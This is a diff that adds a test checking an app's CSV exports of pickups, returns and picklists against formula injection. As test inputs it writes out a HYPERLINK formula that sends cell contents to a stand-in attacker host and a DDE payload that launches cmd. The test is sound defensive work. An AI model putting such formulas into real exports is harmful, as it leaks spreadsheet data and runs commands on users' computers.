@@ -134,3 +134,39 @@ describe("CSV exports", () => {
     expect(res.json().error).toBe("Data inválida. Use AAAA-MM-DD.");
   });
 });
+
+describe("CSV exports never carry a live formula", () => {
+  const FORMULA = '=HYPERLINK("http://atacante.example/?"&A1;"Clique")';
+  const SAFE = `"'=HYPERLINK(""http://atacante.example/?""&A1;""Clique"")"`;
+
+  it("writes a name, an item or a reason that would start a formula with a leading ' in the pickups', returns' and lists' exports", async () => {
+    const store = await t.createStore("Loja Fórmula");
+    await t.database.db.insert(pickups).values({ ...pickupRow(store.username, "PED0000000000009"), customerFullName: FORMULA, orderItems: ["@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"] });
+    await t.database.db.insert(returns).values({
+      orderNumber: "PED0000000000010",
+      customerCPF: "52998224725",
+      customerFullName: "\tMaria",
+      customerPhone: "41987654321",
+      customerEmail: "maria@example.com",
+      returnItems: ["=1+1"],
+      returnStatus: "Devolução recusada",
+      reasonForRefusal: "-Produto usado",
+      returnStore: store.username,
+      dateOfCreation: new Date("2026-03-10T15:04:05Z"),
+    });
+    await t.database.db.insert(picklists).values({ destination: store.username, sendDate: new Date("2026-03-10T15:04:05Z"), listItems: ["=2*3", "+TENIS"], currentStatus: "Não iniciado" });
+
+    const pickup = lines((await get(`/api/pickup/export?store=${encodeURIComponent(store.username)}`)).body);
+    expect(pickup).toHaveLength(2);
+    expect(pickup[1]).toContain(`PED0000000000009;Loja Fórmula;${SAFE};529.982.247-25;`);
+    expect(pickup[1]).toContain(";'@SUM(1+1)*cmd|' /C calc'!A0 | -2+3;");
+
+    const ret = lines((await get(`/api/return/export?store=${encodeURIComponent(store.username)}`)).body);
+    expect(ret[1]).toBe(`PED0000000000010;'\tMaria;529.982.247-25;'=1+1;10/03/2026 12:04:05;;Loja Fórmula;;Devolução recusada;'-Produto usado`);
+
+    const list = lines((await get(`/api/picklist/export?store=${encodeURIComponent(store.username)}`)).body);
+    expect(list[1]).toBe(`Loja Fórmula;10/03/2026 12:04:05;;;;'=2*3 | +TENIS;;;;Não iniciado`);
+    // Figures stay figures: a duration is written as the number it is.
+    expect(lines((await get("/api/picklist/export?from=2026-02-10&to=2026-02-10")).body)[1]).toContain(";12,5;");
+  });
+});
